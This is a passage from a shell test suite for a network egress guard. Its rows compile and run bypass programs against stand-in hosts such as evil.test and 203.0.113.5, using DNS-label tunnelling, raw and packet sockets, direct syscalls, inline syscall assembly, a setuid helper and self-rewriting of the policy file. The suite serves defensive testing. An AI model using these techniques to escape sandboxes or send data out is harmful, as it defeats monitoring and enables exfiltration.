	if need node && need "$_tool"; then
		_cp_js
		attack "$NODE" "$TMP/cp.js" "$_tool" "http://api.stripe.com/r$2"
		if [ "$_jailed" = jailed ]; then
			_cp_jailed_ran "$_tool"

			twin "$NODE" "$TMP/cp.js" "$_tool" "http://allowed.test/r$2-twin-tool" "http://allowed.test/r$2-twin-app"
			twin_arrived httpd "^$ALLOWED_RE 80 GET /r$2-twin-app " "node app; $_tool jailed: no net"
		else
			twin "$NODE" "$TMP/cp.js" "$_tool" "http://allowed.test/r$2-twin"
			twin_arrived httpd "^$ALLOWED_RE 80 GET /r$2-twin " "$_tool → allowed.test"
		fi
	fi
	row_end
}
row_6a() { _cp_row "$1" 6a curl curl jailed; }
row_6b() { _cp_row "$1" 6b wget wget jailed; }
row_6c() { _cp_row "$1" 6c "python3 -c" python3 preload; }
row_6d() { _cp_row "$1" 6d "perl -e" perl preload; }
row_6e() { _cp_row "$1" 6e "ruby -e" ruby preload; }
row_6f() { _cp_row "$1" 6f "php -r" php preload; }
row_6g() { _cp_row "$1" 6g nc nc jailed; }
row_6h() { _cp_row "$1" 6h socat socat jailed; }

# ---- native code ------------------------------------------------------------------------------

# 7a. a C program compiled here: libc getaddrinfo + connect
row_7a() {
	row_begin "$1" 7a "C program (cc) → libc connect()" blocked
	if need cc; then
		cat >"$R_DIR/cclient.c" <<'EOF'
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i += 2) {
		struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *ai;
		char buf[512];
		int rc = getaddrinfo(argv[i], "80", &hints, &ai), fd;
		ssize_t n;
		if (rc != 0) { printf("%s: getaddrinfo: %s\n", argv[i], gai_strerror(rc)); continue; }
		fd = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(fd, ai->ai_addr, ai->ai_addrlen) < 0) { printf("%s: connect: %m\n", argv[i]); close(fd); continue; }
		n = snprintf(buf, sizeof(buf), "GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n", argv[i + 1], argv[i]);
		if (write(fd, buf, (size_t)n) != n) { printf("%s: write: %m\n", argv[i]); continue; }
		n = read(fd, buf, sizeof(buf) - 1);
		buf[n > 0 ? n : 0] = '\0';
		printf("%s: %s\n", argv[i], strstr(buf, "hello") ? strstr(buf, "hello") : buf);
		close(fd);
	}
	return 0;
}
EOF
		if "$CC" -O1 -o "$R_DIR/cclient" "$R_DIR/cclient.c" 2>"$R_DIR/cc.err"; then
			attack ./cclient api.stripe.com r7a 203.0.113.5 r7a-addr
			twin ./cclient allowed.test r7a-twin
			twin_arrived httpd "^$ALLOWED_RE "'80 GET /r7a-twin '
		else
			row_skip "cc failed: $(head -n 1 "$R_DIR/cc.err")"
		fi
	fi
	row_end
}

# 7b. a node native addon (N-API, compiled here) calling connect() from C
row_7b() {
	row_begin "$1" 7b "node native addon (N-API) → connect()" blocked
	_inc=
	for _d in "$(dirname "$(dirname "${NODE:-/x/x}")")/include/node" /usr/include/node /usr/include/nodejs/src /usr/include/nodejs; do
		[ -e "$_d/node_api.h" ] && { _inc=$_d; break; }
	done
	if need node cc; then
		if [ -z "$_inc" ]; then
			row_skip "node_api.h not installed (Debian: libnode-dev)"
		else
			cat >"$R_DIR/addon.c" <<'EOF'
#include <arpa/inet.h>
#include <errno.h>
#include <node_api.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
/* addon.get(ip, path): a plain HTTP GET from C -- the way a native module
   (a database driver, a telemetry SDK) reaches the network past any JS patching */
static napi_value get(napi_env env, napi_callback_info info)
{
	size_t argc = 2, len;
	napi_value argv[2], ret;
	char ip[64], path[128], out[512], req[256];
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(80) };
	int fd;
	ssize_t n;

	napi_get_cb_info(env, info, &argc, argv, NULL, NULL);
	napi_get_value_string_utf8(env, argv[0], ip, sizeof(ip), &len);
	napi_get_value_string_utf8(env, argv[1], path, sizeof(path), &len);
	inet_pton(AF_INET, ip, &sa.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		snprintf(out, sizeof(out), "connect: %s", strerror(errno));
	} else {
		n = snprintf(req, sizeof(req), "GET /%s HTTP/1.0\r\n\r\n", path);
		if (write(fd, req, (size_t)n) != n) {
			snprintf(out, sizeof(out), "write: %s", strerror(errno));
		} else {
			n = read(fd, out, sizeof(out) - 1);
			out[n > 0 ? n : 0] = '\0';
		}
	}
	close(fd);
	napi_create_string_utf8(env, strstr(out, "hello") ? strstr(out, "hello") : out, NAPI_AUTO_LENGTH, &ret);
	return ret;
}
NAPI_MODULE_INIT()
{
	napi_value fn;

	napi_create_function(env, "get", NAPI_AUTO_LENGTH, get, NULL, &fn);
	napi_set_named_property(env, exports, "get", fn);
	return exports;
}
EOF
			cat >"$R_DIR/attack.js" <<'EOF'
const dns = require('dns');
const addon = require('./addon.node');
const { each } = require(process.env.NGROW);
// HOST/PATH: a name is looked up first (as the module would), then C connects
each(process.argv.slice(2), async (hp) => {
  const [host, path] = hp.split('/');
  const ip = (await dns.promises.lookup(host, { family: 4 })).address;
  return addon.get(ip, path).trim();
});
EOF
			if "$CC" -shared -fPIC -O1 -I"$_inc" -o "$R_DIR/addon.node" "$R_DIR/addon.c" 2>"$R_DIR/cc.err"; then
				NGROW=$TMP/ngrow.js attack "$NODE" attack.js api.stripe.com/r7b 203.0.113.5/r7b-addr
				NGROW=$TMP/ngrow.js twin "$NODE" attack.js allowed.test/r7b-twin
				twin_arrived httpd "^$ALLOWED_RE "'80 GET /r7b-twin '
			else
				row_skip "cc failed on the addon: $(head -n 1 "$R_DIR/cc.err")"
			fi
		fi
	fi
	row_end
}

# 7c. python ctypes: connect() looked up in the global namespace (CDLL(None))
row_7c() {
	row_begin "$1" 7c "python ctypes → connect() (CDLL(None))" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import ctypes, socket, sys
from ngrow import resolve4, sockaddr_in, request, body, say
libc = ctypes.CDLL(None, use_errno=True)
for host, tag in zip(sys.argv[1::2], sys.argv[2::2]):
    try:
        ip = resolve4(host)
    except OSError as e:
        say(host, "getaddrinfo:", e); continue
    s = socket.socket()
    sa = sockaddr_in(ip, 80)
    if libc.connect(s.fileno(), sa, len(sa)) != 0:
        say(host, "connect: errno", ctypes.get_errno()); continue
    s.sendall(request(host, tag)); say(host, body(s.recv(4096)))
EOF
		PYTHONPATH=$TMP attack "$PY" attack.py api.stripe.com r7c 203.0.113.5 r7c-addr
		PYTHONPATH=$TMP twin "$PY" attack.py allowed.test r7c-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r7c-twin '
	fi
	row_end
}

# ---- long-lived HTTP/2 (gRPC-style) -------------------------------------------------------------

# 8. node http2.connect to an h2c server: one session, several streams over time
row_8() {
	row_begin "$1" 8 "node http2 (gRPC-style, long-lived h2c)" blocked
	if need node; then
		cat >"$R_DIR/attack.js" <<'EOF'
const http2 = require('http2');
const { each } = require(process.env.NGROW);
const tag = process.env.TAG;
each(process.argv.slice(2), (origin) => new Promise((resolve, reject) => {
  const s = http2.connect(origin);
  const t = setTimeout(() => { s.destroy(); reject(new Error('timeout')); }, 4000);
  s.on('error', (e) => { clearTimeout(t); reject(e); });
  const got = [];
  const call = (i) => {
    if (i > 3) { clearTimeout(t); s.close(); return resolve(`${got.length} calls on one session: ${got.join(' | ')}`); }
    const st = s.request({ ':method': 'POST', ':path': `/grpc.Charges/Create/${tag}-${i}`, 'content-type': 'application/grpc' });
    let d = '';
    st.setEncoding('utf8');
    st.on('data', (c) => { d += c; });
    st.on('end', () => { got.push(d.trim()); setTimeout(() => call(i + 1), 100); });
    st.on('error', reject);
    st.end('card=4242424242424242');
  };
  call(1);
}));
EOF
		TAG=r8 NGROW=$TMP/ngrow.js attack "$NODE" attack.js http://api.stripe.com:8444 http://203.0.113.5:8444
		TAG=r8-twin NGROW=$TMP/ngrow.js twin "$NODE" attack.js http://127.0.0.1:8444 http://allowed.test:8444
		twin_arrived h2 "^$ALLOWED_RE "'8444 POST /grpc\.Charges/Create/r8-twin-3 '
		if ! wait_new h2 '^127\.0\.0\.1 8444 POST /grpc\.Charges/Create/r8-twin-3 ' ||
			[ "$(new_lines h2 | grep -c '^127\.0\.0\.1 8444 conn ')" != 1 ]; then
			R_TWIN=no
		fi
		R_TWIN_NOTE="one session, 3 calls, lo + allowed"
	fi
	row_end
}

# ---- DNS tunnelling ---------------------------------------------------------------------------------

# 9a. data in the labels of a lookup through the system resolver
row_9a() {
	row_begin "$1" 9a "DNS tunnel via getaddrinfo (data in labels)" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, sys
for name in sys.argv[1:]:
    try:
        print(name, socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0], flush=True)
    except OSError as e:
        print(name, "error:", e, flush=True)
EOF
		control "$PY" attack.py data-control9a.evil.test
		if control_arrived dnsmasq 'query\[A\] data-control9a\.evil\.test ' "a lookup of data-control9a.evil.test"; then
			attack "$PY" attack.py data-x1y2z3.evil.test
			# "allowed.test." (trailing dot): /etc/hosts does not answer it, dnsmasq does
			twin "$PY" attack.py allowed.test.
			twin_arrived dnsmasq 'query\[A\] allowed\.test ' "getaddrinfo(\"allowed.test.\")"
		fi
	fi
	row_end
}

# 9b. a DNS query the program builds and sends to the resolver itself
row_9b() {
	row_begin "$1" 9b "DNS tunnel via raw UDP query to the resolver" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, struct, sys
def query(name, qid):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)
for i, name in enumerate(sys.argv[1:]):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(query(name, 0x5100 + i), ("127.0.0.53", 53))
        r = s.recv(512)
        print(name, "answered: rcode %d, %d answers" % (r[3] & 15, struct.unpack(">H", r[6:8])[0]), flush=True)
    except OSError as e:
        print(name, "error:", e, flush=True)
EOF
		attack "$PY" attack.py data-q9w8e7.evil.test
		twin "$PY" attack.py allowed.test
		twin_arrived dnsmasq 'query\[A\] allowed\.test '
	fi
	row_end
}

# ---- raw and packet sockets ---------------------------------------------------------------------------

# The twin of the raw rows: an ordinary UDP datagram to allowed.test:9001.
_udp_twin() {
	cat >"$R_DIR/twin.py" <<'EOF'
import socket, sys
from ngrow import resolve4, say
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(sys.argv[1].encode(), (resolve4("allowed.test"), 9001))
say(s.recv(100))
EOF
	PYTHONPATH=$TMP twin "$PY" twin.py "$1"
	twin_arrived udp "^$ALLOWED_RE 9001 .*$1" "plain UDP to allowed.test"
}

# 10a. SOCK_RAW: a TCP raw socket, and a UDP datagram built by hand
row_10a() {
	row_begin "$1" 10a "raw socket (SOCK_RAW)" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, struct, sys
dst, tag = sys.argv[1], sys.argv[2].encode()
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    print("SOCK_RAW/IPPROTO_TCP: created", flush=True)
except OSError as e:
    print("SOCK_RAW/IPPROTO_TCP:", e, flush=True)
try:
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    r.sendto(struct.pack("!HHHH", 40001, 9001, 8 + len(tag), 0) + tag, (dst, 0))
    print("SOCK_RAW/IPPROTO_UDP: hand-built datagram sent", flush=True)
except OSError as e:
    print("SOCK_RAW/IPPROTO_UDP:", e, flush=True)
EOF
		control "$PY" attack.py 203.0.113.5 r10a-control
		if control_arrived udp "^203\\.0\\.113\\.5 9001 .*r10a-control" "a hand-built datagram on a raw socket"; then
			attack "$PY" attack.py 203.0.113.5 r10a
			_udp_twin r10a-twin
		fi
	fi
	row_end
}

# 10b. AF_PACKET: a whole IPv4/UDP packet written onto lo
row_10b() {
	row_begin "$1" 10b "packet socket (AF_PACKET)" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, struct, sys
dst, tag = sys.argv[1], sys.argv[2].encode()
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
udp = struct.pack("!HHHH", 40002, 9001, 8 + len(tag), 0) + tag
hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4242, 0x4000, 64, 17, 0,
                  socket.inet_aton("10.9.9.9"), socket.inet_aton(dst))
hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
try:
    p = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    p.bind(("lo", 0x0800))
    p.send(hdr + udp)
    print("AF_PACKET: packet sent on lo", flush=True)
except OSError as e:
    print("AF_PACKET:", e, flush=True)
EOF
		control "$PY" attack.py 203.0.113.5 r10b-control
		if control_arrived udp "^203\\.0\\.113\\.5 9001 .*r10b-control" "an IPv4 packet written on an AF_PACKET socket"; then
			attack "$PY" attack.py 203.0.113.5 r10b
			_udp_twin r10b-twin
		fi
	fi
	row_end
}

# ---- programs the preload cannot see into --------------------------------------------------------------

# 11. a static binary (busybox) dropped as ./updater and started from node
row_11() {
	row_begin "$1" 11 "static binary (busybox as ./updater)" blocked
	if need node; then
		_bb=$(command -v busybox 2>/dev/null || echo /bin/busybox)
		if [ ! -x "$_bb" ] || ldd "$_bb" >/dev/null 2>&1; then
			row_skip "no static busybox (Debian: busybox-static)"
		else
			cp "$_bb" "$R_DIR/updater"
			_cp_js
			attack "$NODE" "$TMP/cp.js" updater http://api.stripe.com/r11
			_cp_jailed_ran updater
			twin "$NODE" "$TMP/cp.js" updater http://allowed.test/r11-twin-tool http://allowed.test/r11-twin-app
			twin_arrived httpd "^$ALLOWED_RE "'80 GET /r11-twin-app ' "node app; updater jailed: no net"
		fi
	fi
	row_end
}

# 12. env -i: a child with an empty environment (no LD_PRELOAD, no NETGUARD_*)
row_12() {
	row_begin "$1" 12 "env -i curl" blocked
	if need node curl; then
		_cp_js
		attack "$NODE" "$TMP/cp.js" env-i-curl http://api.stripe.com/r12
		_cp_jailed_ran env-i-curl
		twin "$NODE" "$TMP/cp.js" env-i-python3 http://allowed.test/r12-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r12-twin ' "env -i python3 → allowed.test"
	fi
	row_end
}

# 13. a setuid-root helper (the loader drops LD_PRELOAD for it): exec.privileged
row_13() {
	row_begin "$1" 13 "setuid helper (chmod u+s busybox)" blocked
	if need node; then
		_bb=$(command -v busybox 2>/dev/null || echo /bin/busybox)
		if [ ! -x "$_bb" ]; then
			row_skip "busybox not installed"
		else
			mkdir -p "$R_DIR/suid"
			cp "$_bb" "$R_DIR/suid/busybox"
			chmod u+s "$R_DIR/suid/busybox"
			_cp_js
			control timeout 5 "$R_DIR/suid/busybox" wget -q -O- http://203.0.113.5/r13-control
			if control_arrived httpd '^203\.0\.113\.5 80 GET /r13-control ' "the setuid busybox"; then
				SUID_HELPER=$R_DIR/suid/busybox attack "$NODE" "$TMP/cp.js" setuid http://api.stripe.com/r13
				SUID_HELPER=$R_DIR/suid/busybox twin "$NODE" "$TMP/cp.js" setuid http://allowed.test/r13-twin-tool http://allowed.test/r13-twin-app
				twin_arrived httpd "^$ALLOWED_RE "'80 GET /r13-twin-app ' "node app; helper refused"
			fi
		fi
	fi
	row_end
}

# ---- around the libc wrappers ----------------------------------------------------------------------------

# 14. syscall(SYS_connect) through libc's syscall() (ctypes)
row_14() {
	row_begin "$1" 14 "syscall(SYS_connect) via ctypes" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import ctypes, os, platform, socket, sys
from ngrow import resolve4, sockaddr_in, request, body, say
SYS_socket, SYS_connect = {"x86_64": (41, 42), "aarch64": (198, 203)}[platform.machine()]
libc = ctypes.CDLL("libc.so.6", use_errno=True)
libc.syscall.restype = ctypes.c_long
for host, tag in zip(sys.argv[1::2], sys.argv[2::2]):
    try:
        ip = resolve4(host)
    except OSError as e:
        say(host, "getaddrinfo:", e); continue
    fd = libc.syscall(ctypes.c_long(SYS_socket), ctypes.c_long(socket.AF_INET), ctypes.c_long(socket.SOCK_STREAM), ctypes.c_long(0))
    sa = sockaddr_in(ip, 80)
    if libc.syscall(ctypes.c_long(SYS_connect), ctypes.c_long(fd), ctypes.c_char_p(sa), ctypes.c_long(len(sa))) != 0:
        say(host, "syscall(SYS_connect): errno", ctypes.get_errno()); os.close(fd); continue
    os.write(fd, request(host, tag)); say(host, body(os.read(fd, 4096))); os.close(fd)
EOF
		PYTHONPATH=$TMP attack "$PY" attack.py 203.0.113.5 r14 api.stripe.com r14-name
		PYTHONPATH=$TMP twin "$PY" attack.py allowed.test r14-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r14-twin '
	fi
	row_end
}

# 15. ctypes.CDLL("libc.so.6").connect: libc's own symbol, looked up by handle
row_15() {
	row_begin "$1" 15 "ctypes.CDLL(\"libc.so.6\").connect" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import ctypes, socket, sys
from ngrow import resolve4, sockaddr_in, request, body, say
libc = ctypes.CDLL("libc.so.6", use_errno=True)
for host, tag in zip(sys.argv[1::2], sys.argv[2::2]):
    try:
        ip = resolve4(host)
    except OSError as e:
        say(host, "getaddrinfo:", e); continue
    s = socket.socket()
    sa = sockaddr_in(ip, 80)
    if libc.connect(s.fileno(), sa, len(sa)) != 0:
        say(host, "connect: errno", ctypes.get_errno()); continue
    s.sendall(request(host, tag)); say(host, body(s.recv(4096)))
EOF
		PYTHONPATH=$TMP attack "$PY" attack.py 203.0.113.5 r15
		PYTHONPATH=$TMP twin "$PY" attack.py allowed.test r15-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r15-twin '
	fi
	row_end
}

# 16. IPv4-mapped IPv6: an AF_INET6 socket connecting to ::ffff:203.0.113.5
row_16() {
	row_begin "$1" 16 "IPv4-mapped IPv6 (::ffff:203.0.113.5)" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, sys
from ngrow import resolve4, request, body, say
for host, tag in zip(sys.argv[1::2], sys.argv[2::2]):
    mapped = "::ffff:" + resolve4(host)
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((mapped, 80))
    except OSError as e:
        say(mapped, "connect:", e); continue
    s.sendall(request(host, tag)); say(mapped, body(s.recv(4096)))
EOF
		PYTHONPATH=$TMP attack "$PY" attack.py 203.0.113.5 r16
		PYTHONPATH=$TMP twin "$PY" attack.py allowed.test r16-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r16-twin ' "::ffff:198.51.100.10"
	fi
	row_end
}

# 17. TCP Fast Open: sendto(MSG_FASTOPEN) connects and sends in one call
row_17() {
	row_begin "$1" 17 "TCP Fast Open (sendto MSG_FASTOPEN)" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, sys
from ngrow import resolve4, request, body, say
MSG_FASTOPEN = 0x20000000
for host, tag in zip(sys.argv[1::2], sys.argv[2::2]):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        # blocking: on a non-blocking socket a cookie-less TFO sendto is EINPROGRESS, data unsent
        s.sendto(request(host, tag), MSG_FASTOPEN, (resolve4(host), 80))
        s.settimeout(3)
        say(host, body(s.recv(4096)))
    except OSError as e:
        say(host, "sendto(MSG_FASTOPEN):", e)
EOF
		PYTHONPATH=$TMP control "$PY" attack.py 203.0.113.5 r17-control
		if control_arrived httpd '^203\.0\.113\.5 80 GET /r17-control ' "sendto(MSG_FASTOPEN)"; then
			PYTHONPATH=$TMP attack "$PY" attack.py 203.0.113.5 r17
			PYTHONPATH=$TMP twin "$PY" attack.py allowed.test r17-twin
			twin_arrived httpd "^$ALLOWED_RE "'80 GET /r17-twin '
		fi
	fi
	row_end
}

# 18. sendmmsg: several datagrams, each with its own address, in one call
row_18() {
	row_begin "$1" 18 "sendmmsg (UDP, one address per datagram)" blocked
	if need cc; then
		cat >"$R_DIR/mmsg.c" <<'EOF'
#define _GNU_SOURCE
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
/* mmsg HOST:TAG...: one sendmmsg() call, datagram i = TAG i to HOST i, port 9001 */
int main(int argc, char **argv)
{
	struct mmsghdr m[8];
	struct sockaddr_storage ss[8];
	struct iovec iov[8];
	char host[8][128];
	int n = 0, fd, rc;

	memset(m, 0, sizeof(m));
	for (int i = 1; i < argc && n < 8; i++, n++) {
		struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_DGRAM }, *ai;
		char *tag = strchr(argv[i], ':');

		if (!tag)
			return 2;
		snprintf(host[n], sizeof(host[n]), "%.*s", (int)(tag - argv[i]), argv[i]);
		tag++;
		if ((rc = getaddrinfo(host[n], "9001", &hints, &ai)) != 0) {
			printf("%s: getaddrinfo: %s\n", host[n], gai_strerror(rc));
			return 1;
		}
		memcpy(&ss[n], ai->ai_addr, ai->ai_addrlen);
		iov[n].iov_base = tag;
		iov[n].iov_len = strlen(tag);
		m[n].msg_hdr.msg_name = &ss[n];
		m[n].msg_hdr.msg_namelen = ai->ai_addrlen;
		m[n].msg_hdr.msg_iov = &iov[n];
		m[n].msg_hdr.msg_iovlen = 1;
	}
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	rc = sendmmsg(fd, m, (unsigned)n, 0);
	printf("sendmmsg of %d datagrams: %d%s%s\n", n, rc, rc < 0 ? " " : "", rc < 0 ? strerror(errno) : "");
	return 0;
}
EOF
		if "$CC" -O1 -o "$R_DIR/mmsg" "$R_DIR/mmsg.c" 2>"$R_DIR/cc.err"; then
			attack ./mmsg 203.0.113.5:r18-a 203.0.113.5:r18-b
			# mixed: an allowed datagram first, then a denied one in the same call
			attack ./mmsg 127.0.0.1:r18-lo 203.0.113.5:r18-c
			twin ./mmsg allowed.test:r18-twin
			twin_arrived udp "^$ALLOWED_RE "'9001 .*r18-twin' "allowed.test; lo in mixed batch"
			# the mixed batch: its allowed datagram went out, only the denied one was held back
			wait_new udp "^127\\.0\\.0\\.1 9001 .*r18-lo'" || R_TWIN=no
		else
			row_skip "cc failed: $(head -n 1 "$R_DIR/cc.err")"
		fi
	fi
	row_end
}

# 19. reverse lookups whose PTR names carry data (an IPv4 address and an IPv6
#     address spelling bytes: "data", "data-secret!")
row_19() {
	row_begin "$1" 19 "PTR queries carrying data (gethostbyaddr)" blocked
	if need python3; then
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, sys
for a in sys.argv[1:]:
    try:
        print(a, "->", socket.gethostbyaddr(a)[0], flush=True)
    except OSError as e:
        print(a, "-> error:", e, flush=True)
EOF
		control "$PY" attack.py 100.97.116.98
		if control_arrived dnsmasq 'query\[PTR\] 98\.116\.97\.100\.in-addr\.arpa' "a PTR query"; then
			attack "$PY" attack.py 203.0.113.5 100.97.116.97 2001:db8:6461:7461:2d73:6563:7265:7421
			twin "$PY" attack.py 127.0.0.1
			R_TWIN_WANT=yes
			if grep -q '^127\.0\.0\.1 -> localhost' "$R_DIR/twin.out"; then R_TWIN=yes; else R_TWIN=no; fi
			R_TWIN_NOTE="127.0.0.1 → localhost"
		fi
	fi
	row_end
}

# 20. the program rewrites its own policy file to allow everything, then connects
#     (in itself and in a child it starts afterwards)
row_20() {
	row_begin "$1" 20 "rewritten policy file" blocked
	if need python3; then
		cp "$POL" "$R_DIR/policy.conf"
		R_POL=$R_DIR/policy.conf
		cat >"$R_DIR/attack.py" <<'EOF'
import socket, subprocess, sys
from ngrow import resolve4, request, body, say
pol, host, tag = sys.argv[1:4]
if pol != "-":
    with open(pol, "w") as f:
        f.write('version = 1;\ndefault = "allow";\n')
    say("rewrote", pol, "to allow everything")
try:
    s = socket.create_connection((resolve4(host), 80), timeout=3)
    s.sendall(request(host, tag)); say(host, body(s.recv(4096)))
except OSError as e:
    say(host, "connect:", e)
if pol != "-":
    subprocess.run([sys.executable, sys.argv[0], "-", host, tag + "-child"])
EOF
		PYTHONPATH=$TMP attack "$PY" attack.py "$R_POL" 203.0.113.5 r20
		if ! grep -q 'default = "allow"' "$R_POL"; then R_NOTE="the policy file was not rewritten"; fi
		cp "$POL" "$R_DIR/policy.conf"
		PYTHONPATH=$TMP twin "$PY" attack.py "$R_POL" allowed.test r20-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r20-twin-child ' "parent + child, after rewrite"
		wait_new httpd "^$ALLOWED_RE "'80 GET /r20-twin ' || R_TWIN=no
	fi
	row_end
}

# ---- the honest row: an inline syscall instruction --------------------------------------------------------

# inline-syscall IP PATH: socket/connect/write/read by the syscall instruction
# itself, in a dynamically linked program: no libc wrapper for a preload to hook.
_inline_c() {
	cat >"$R_DIR/inline.c" <<'EOF'
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
#if defined(__x86_64__)
	long r;
	__asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
	__asm__ volatile ("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	return x0;
#else
# error "inline syscall: x86_64 or aarch64 only"
#endif
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(80) };
	char req[256], buf[512];
	long fd, r, n;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
		return 2;
	fd = sys3(SYS_socket, AF_INET, SOCK_STREAM, 0);
	r = sys3(SYS_connect, fd, (long)&sa, sizeof(sa));
	if (r < 0) {
		printf("connect: %s\n", strerror((int)-r));
		return 1;
	}
	n = snprintf(req, sizeof(req), "GET /%s HTTP/1.0\r\n\r\n", argv[2]);
	sys3(SYS_write, fd, (long)req, n);
	n = sys3(SYS_read, fd, (long)buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	printf("%s\n", strstr(buf, "hello") ? strstr(buf, "hello") : buf);
	return 0;
}
EOF
	"$CC" -O1 -o "$R_DIR/inline-syscall" "$R_DIR/inline.c" 2>"$R_DIR/cc.err" ||
		{ row_skip "cc failed on the inline syscall program: $(head -n 1 "$R_DIR/cc.err")"; return 1; }
	ldd "$R_DIR/inline-syscall" >/dev/null 2>&1 ||
		{ row_skip "the inline syscall program did not link dynamically"; return 1; }
}

# 21a. under the preload alone it LEAKS: there is no call to hook
row_21a() {
	row_begin "$1" 21a "inline syscall instruction (dynamic C)" leaks
	if need node cc && _inline_c; then
		_cp_js
		attack "$NODE" "$TMP/cp.js" inline http://203.0.113.5/r21a
		twin "$NODE" "$TMP/cp.js" inline http://198.51.100.10/r21a-twin-tool http://allowed.test/r21a-twin-app
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r21a-twin-app ' "node app"
		R_NOTE="expected: a preload sees libc calls, not syscall instructions; jail such programs by an exec rule (21b)"
	fi
	row_end
}

# 21b. the same program, jailed by an exec rule of the policy: blocked
row_21b() {
	row_begin "$1" 21b "inline syscall instruction, exec rule: jail" blocked
	if need node cc && _inline_c; then
		sed 's|^  rules = ($|  rules = (\n    { name = "inline-syscall"; program = ( "*/inline-syscall" ); action = "jail"; },|' \
			"$POL" >"$R_DIR/policy.conf"
		R_POL=$R_DIR/policy.conf
		_cp_js
		attack "$NODE" "$TMP/cp.js" inline http://203.0.113.5/r21b
		_cp_jailed_ran inline
		twin "$NODE" "$TMP/cp.js" inline http://198.51.100.10/r21b-twin-tool http://allowed.test/r21b-twin-app
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r21b-twin-app ' "node app; program jailed: no net"
	fi
	row_end
}
